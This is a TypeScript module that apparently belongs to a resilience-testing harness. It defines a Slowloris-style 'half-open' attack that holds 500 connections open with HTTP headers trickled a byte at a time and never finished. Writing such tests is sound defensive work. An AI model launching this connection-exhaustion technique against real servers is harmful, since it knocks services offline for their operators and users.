import type { Attack } from "../attack.ts";
import { trickle } from "./trickle.ts";

const CONNECTIONS = 500;

export const halfOpen: Attack = {
  name: "half-open",
  summary: `nobody: ${CONNECTIONS} connections with a head that never ends, a byte a second`,
  begin(front) {
    const head = front.wire({ path: "/livez" }).slice(0, -2);
    front.repeat(CONNECTIONS, (address) =>
      front.hold(address, (connection) => {
        connection.write(`${head}X: `);
        trickle(connection);
      }),
    );
  },
};
